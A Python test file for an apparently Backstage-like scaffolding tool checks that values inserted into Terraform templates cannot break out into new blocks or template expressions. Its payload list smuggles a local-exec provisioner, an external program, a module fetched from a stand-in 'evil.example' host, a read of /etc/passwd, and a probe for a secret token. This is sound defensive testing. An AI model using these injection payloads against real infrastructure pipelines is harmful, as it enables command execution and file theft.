"""Threats 1, 2, 4: values that want to be Terraform or a template."""

import json

import pytest

from landform.rendering.verify import blocks
from landform.tasks.models import TaskStatus
from landform.templates.files import TemplateFile as File
from tests.support.builders import ANA
from tests.support.hostile import Theatre, fetch, skeleton
from tests.support.nasty import NASTY
from tests.support.world import World

SECRET = "canary-5e4b9d"

POSITIONS = {
    "quoted": 'locals {\n  a = "before ${{ values.v }} after"\n}\n',
    "after a dollar": 'locals {\n  a = "$${{ values.v }}"\n}\n',
    "an expression": "locals {\n  a = ${{ values.v }}\n}\n",
    "a heredoc": "locals {\n  a = <<EOT\n${{ values.v }}\nEOT\n}\n",
    "an indented heredoc": "locals {\n  a = <<-EOT\n    ${{ values.v }}\n  EOT\n}\n",
    "an object's key": "locals {\n  a = { (${{ values.v }}) = 1 }\n}\n",
    "a line comment": "# ${{ values.v }}\nlocals {\n  a = 1\n}\n",
    "a block comment": "/* ${{ values.v }} */\nlocals {\n  a = 1\n}\n",
    "dumped": "locals {\n  a = ${{ values.v | dump }}\n}\n",
}
SMUGGLED = [
    'x"\n}\nresource "null_resource" "p" {\n provisioner "local-exec" {\n command = "id"\n}\n',
    '*/\ndata "external" "x" {\n program = ["id"]\n}\n/*',
    'EOT\n}\nprovider "http" {}\nlocals {\n b = <<EOT\n',
    '\nmodule "x" {\n source = "git::https://evil.example/x"\n}\n',
    '${file("/etc/passwd")}',
]


@pytest.mark.parametrize("position", list(POSITIONS))
async def test_a_value_becomes_no_block_wherever_it_stands(stage: Theatre, position: str) -> None:
    values = {str(index): each for index, each in enumerate([*SMUGGLED, *NASTY])}
    texts = {
        f"skeleton/f{index}.tf": File(
            POSITIONS[position].replace("values.v", f"values.v[{index!r}]").encode()
        )
        for index in values
    }
    task, _, made = await stage.run([fetch()], {"v": values}, files=texts)

    assert task.status is TaskStatus.COMPLETED, task
    assert len(made) == len(values)
    for path, file in made.items():
        assert blocks(path, file.content.decode()) == [("locals",)]


@pytest.mark.parametrize(
    "text",
    [
        'resource "null_resource" "${{ values.v }}" {}\n',
        "${{ values.v }} {}\n",
        'locals {\n  a = "\\${{ values.v }}"\n}\n',
        "locals {\n  a = 1${{ values.v }}\n}\n",
        "locals {\n  a = ${{ values.v }}(1)\n}\n",
    ],
)
async def test_a_value_that_is_no_name_is_refused_where_only_a_name_can_stand(
    stage: Theatre, text: str
) -> None:
    for value in SMUGGLED:
        task, said, made = await stage.run([fetch()], {"v": value}, files=skeleton(text, "a.tf"))

        assert task.status is TaskStatus.FAILED
        assert "a.tf:" in "".join(said)
        assert made == {}


@pytest.mark.parametrize("path", ["a.tf.json", "a.tftpl"])
async def test_where_no_escape_is_safe_a_value_that_could_be_code_is_refused(
    stage: Theatre, path: str
) -> None:
    task, _, made = await stage.run(
        [fetch()], {"v": '${file("/etc/passwd")}'}, files=skeleton('{"a": "${{ values.v }}"}', path)
    )

    assert task.status is TaskStatus.FAILED
    assert made == {}


@pytest.mark.parametrize("value", SMUGGLED)
async def test_a_stack_keeps_what_was_typed_as_data(world: World, value: str) -> None:
    shown = await world.previews.preview(
        world.templates.get("probe"),
        {"name": "orders", "environment": "dev", "owner": "group:default/payments", "note": value},
        await world.subject(ANA),
    )

    for path, text in ((each.path, each.text) for each in shown.files):
        if path.endswith(".tf"):
            assert not any(word in text for word in ("local-exec", "external", "evil", "passwd"))
        elif path.endswith(".json"):
            assert json.loads(text)["note"] == value


TEMPLATES = [
    "${{ 7 * 7 }}",
    "{% for i in range(9) %}x{% endfor %}",
    "{{ 7 * 7 }}",
    "${{ secrets.token }}",
]


@pytest.mark.parametrize("value", TEMPLATES)
async def test_a_value_that_is_a_template_stays_what_was_typed(stage: Theatre, value: str) -> None:
    steps = [
        fetch(),
        {
            "id": "write",
            "action": "catalog:write",
            "input": {"entity": {"kind": "X", "title": "${{ parameters.v }}"}},
        },
    ]
    task, _, made = await stage.run(
        steps,
        {"v": value},
        files=skeleton("${{ values.v }}"),
        secrets={"token": SECRET},
        output={"v": "${{ parameters.v }}", "text": "it is ${{ parameters.v }}"},
    )

    assert made["a.txt"].content.decode() == value
    assert value in made["catalog-info.yaml"].content.decode()
    assert task.output == {"v": value, "text": f"it is {value}"}
